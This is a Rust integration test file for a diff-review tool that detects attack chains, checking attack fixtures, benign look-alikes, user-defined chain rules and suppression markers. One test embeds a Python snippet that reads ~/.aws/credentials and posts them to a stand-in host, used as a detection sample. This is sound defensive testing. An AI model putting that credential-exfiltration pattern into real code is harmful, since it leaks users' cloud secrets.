//! Attack chains end to end: every case under `fixtures/attacks/` is a change (the files of `base/`
//! committed on `main`, then the files of `change/` on a branch) reviewed with `review-gate diff main`.
//! `expected.txt` lists the chains (and other attack and command findings) the change must show — exactly those — and an empty one marks a benign
//! look-alike that must pass (exit 0, no chain).

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use common::Repo;

fn copy_tree(from: &Path, repo: &Repo, prefix: &Path) {
    let Ok(entries) = std::fs::read_dir(from) else {
        return;
    };
    for entry in entries {
        let entry = entry.unwrap();
        let rel = prefix.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_tree(&entry.path(), repo, &rel);
        } else {
            repo.write(rel.to_str().unwrap(), std::fs::read(entry.path()).unwrap());
        }
    }
}

/// A repository with the case's `base/` files committed on `main` and its `change/` files committed on
/// the branch `change`, checked out.
fn repo_with_change(case: &Path) -> Repo {
    let repo = Repo::new();
    copy_tree(&case.join("base"), &repo, Path::new(""));
    repo.commit("base");
    repo.git(&["checkout", "-q", "-b", "change"]);
    copy_tree(&case.join("change"), &repo, Path::new(""));
    repo.commit("change");
    repo
}

fn cases() -> Vec<PathBuf> {
    let mut cases: Vec<PathBuf> = std::fs::read_dir("fixtures/attacks")
        .expect("fixtures/attacks exists")
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    cases.sort();
    cases
}

#[test]
fn every_attack_case_shows_its_chains_and_every_look_alike_passes() {
    let cases = cases();
    assert!(cases.len() >= 16, "fixtures/attacks lost cases");
    let mut failures = Vec::new();
    let (mut attacks, mut benign) = (0, 0);
    for case in &cases {
        let name = case.file_name().unwrap().to_string_lossy().to_string();
        let expected: BTreeSet<String> = std::fs::read_to_string(case.join("expected.txt"))
            .expect("expected.txt")
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty() && !l.starts_with('#'))
            .map(String::from)
            .collect();
        let repo = repo_with_change(case);
        let run = repo.run(&["diff", "main", "--format", "json"]);
        let findings = run.json()["findings"].as_array().unwrap().clone();
        // Attack findings, and the commands an agent instruction file tells the agent to run.
        let chains: BTreeSet<String> = findings
            .iter()
            .filter(|f| f["category"] == "attack" || f["category"] == "command")
            .map(|f| f["check"].as_str().unwrap().to_string())
            .collect();
        if findings
            .iter()
            .any(|f| f["check"].as_str().unwrap().starts_with("attack.signal."))
        {
            failures.push(format!("{name}: a signal was reported on its own"));
        }
        if expected.is_empty() {
            benign += 1;
            if run.code != 0 || !chains.is_empty() {
                failures.push(format!(
                    "{name}: benign look-alike: exit {} and chains {chains:?}; findings:\n{}",
                    run.code, run.stdout
                ));
            }
            continue;
        }
        attacks += 1;
        if run.code != 1 || chains != expected {
            failures.push(format!(
                "{name}: expected exit 1 with {expected:?}, got exit {} with {chains:?}\n{}",
                run.code, run.stderr
            ));
        }
        // Chains lead the report, each listing its parts.
        let first_other = findings
            .iter()
            .position(|f| f["category"] != "attack")
            .unwrap_or(findings.len());
        if findings[..first_other].len()
            != findings
                .iter()
                .filter(|f| f["category"] == "attack")
                .count()
        {
            failures.push(format!("{name}: a chain is not listed first"));
        }
        for chain in findings.iter().filter(|f| f["category"] == "attack") {
            let parts = chain["parts"].as_array().map(Vec::len).unwrap_or(0);
            // A capability (`attack.capability.*`), an obfuscation finding (`attack.obfuscation.*`) and
            // an instruction-file finding are findings of their own, not chains.
            let single = chain["check"] == "attack.agent-cli-unsafe"
                || chain["check"].as_str().is_some_and(|c| {
                    c.starts_with("attack.agent-instructions.")
                        || c.starts_with("attack.capability.")
                        || c.starts_with("attack.obfuscation.")
                });
            if !single && parts < 2 {
                failures.push(format!("{name}: {} lists {parts} parts", chain["check"]));
            }
        }
    }
    assert!(
        attacks >= 8 && benign >= 8,
        "{attacks} attacks, {benign} benign"
    );
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn text_report_names_the_chain_and_its_parts_first() {
    let repo = repo_with_change(Path::new("fixtures/attacks/python-credential-exfil"));
    let run = repo.run(&["diff", "main"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    // The first finding, after the capability digest.
    let first = run
        .stdout
        .lines()
        .find(|l| l.contains(": error[") || l.contains(": warning["))
        .unwrap_or("");
    assert!(first.contains("attack.exfiltration"), "{}", run.stdout);
    assert!(
        run.stdout.contains(
            "collects secrets: attack.signal.credential-file-code at tool/update_check.py:7"
        ),
        "{}",
        run.stdout
    );
}

#[test]
fn a_user_chain_with_an_unknown_part_is_rejected_with_file_and_line() {
    let repo = Repo::new();
    repo.write(".review-gate.yml", "checks: [my-chains.yml]\n");
    repo.write(
        "my-chains.yml",
        "- id: attack.mine\n  category: attack\n  severity: error\n  chain:\n    within: file\n    parts:\n      - role: a\n        any: [network]\n      - role: b\n        any: [no.such.check]\n  message: mine\n  help: mine\n",
    );
    repo.commit("base");
    let run = repo.run(&["staged"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("my-chains.yml:10") && run.stderr.contains("no.such.check"),
        "{}",
        run.stderr
    );
}

/// A repository whose configuration adds a chain of its own, `attack.mine`: an environment read and a
/// process start in one file.
fn repo_with_env_then_exec_chain() -> Repo {
    let repo = Repo::new();
    repo.write(".review-gate.yml", "checks: [my-chains.yml]\n");
    repo.write(
        "my-chains.yml",
        "- id: attack.mine\n  category: attack\n  severity: warning\n  chain:\n    within: file\n    parts:\n      - role: reads the environment\n        any: [env]\n      - role: starts a process\n        any: [exec]\n  message: env then exec\n  help: mine\n",
    );
    repo.commit("base");
    repo
}

#[test]
fn a_user_chain_finds_its_parts() {
    let repo = repo_with_env_then_exec_chain();
    repo.write(
        "a.py",
        "import os, subprocess\nname = os.environ.get('NAME')\nsubprocess.run(['echo', name])\n",
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    let findings = run.findings();
    assert_eq!(findings[0].2, "attack.mine", "{}", run.stdout);
    assert_eq!(findings[0].1, 3);
}

#[test]
fn a_chain_lists_every_line_that_plays_a_part() {
    let repo = repo_with_env_then_exec_chain();
    repo.write(
        "a.py",
        "import os, subprocess\nname = os.environ.get('NAME')\nhome = os.environ.get('HOME')\nsubprocess.run(['echo', name])\nsubprocess.run(['ls', home])\n",
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).expect("json");
    let chain = report["findings"]
        .as_array()
        .and_then(|all| all.iter().find(|f| f["check"] == "attack.mine"))
        .expect("the chain");
    let mut lines: Vec<u64> = chain["parts"]
        .as_array()
        .expect("parts")
        .iter()
        .filter_map(|p| p["line"].as_u64())
        .collect();
    lines.sort_unstable();
    assert_eq!(lines, vec![2, 3, 4, 5], "{}", run.stdout);
}

#[test]
fn chains_see_their_parts_even_when_the_parts_are_not_reported() {
    let repo = repo_with_change(Path::new("fixtures/attacks/python-credential-exfil"));
    // Only the attack category: the network part still runs, unreported.
    let run = repo.run(&["diff", "main", "--format", "json", "--category", "attack"]);
    let checks: Vec<String> = run.findings().into_iter().map(|f| f.2).collect();
    assert_eq!(
        checks,
        vec!["attack.exfiltration".to_string()],
        "{}",
        run.stdout
    );
    // Network notes disabled in the configuration (the base's, which governs `diff`): the chain is
    // still found, the notes stay hidden.
    let case = Path::new("fixtures/attacks/python-credential-exfil");
    let repo = Repo::new();
    copy_tree(&case.join("base"), &repo, Path::new(""));
    repo.write(".review-gate.yml", "disable: [network]\n");
    repo.commit("base");
    repo.git(&["checkout", "-q", "-b", "change"]);
    copy_tree(&case.join("change"), &repo, Path::new(""));
    repo.commit("change");
    let run = repo.run(&["diff", "main", "--format", "json"]);
    let checks: Vec<String> = run.findings().into_iter().map(|f| f.2).collect();
    assert!(
        checks.contains(&"attack.exfiltration".to_string()),
        "{}",
        run.stdout
    );
    assert!(
        !checks.iter().any(|c| c.starts_with("network.")),
        "{}",
        run.stdout
    );
}

#[test]
fn a_chain_is_not_accepted_inline_by_allow_all_nor_by_a_marker_added_with_it() {
    let repo = Repo::new();
    repo.write("README.md", "# x\n");
    repo.commit("base");
    let code = |marker: &str| {
        format!(
            "import os\nimport requests\n\ncreds = open(os.path.expanduser(\"~/.aws/credentials\")).read()\n{marker}\nrequests.post(\"https://x.example.net/u\", data=creds)\n"
        )
    };
    repo.write("sync.py", code("# review-gate: allow all -- fine"));
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    assert!(
        run.findings().iter().any(|f| f.2 == "attack.exfiltration"),
        "{}",
        run.stdout
    );
    repo.write(
        "sync.py",
        code("# review-gate: allow attack.exfiltration -- uploads our own backup, reviewed in #12"),
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    // Added together with the attack, even the exact name is refused (tests/suppressions.rs has the
    // marker present in the base, which accepts it).
    assert!(
        run.findings().iter().any(|f| f.2 == "attack.exfiltration"),
        "{}",
        run.stdout
    );
}
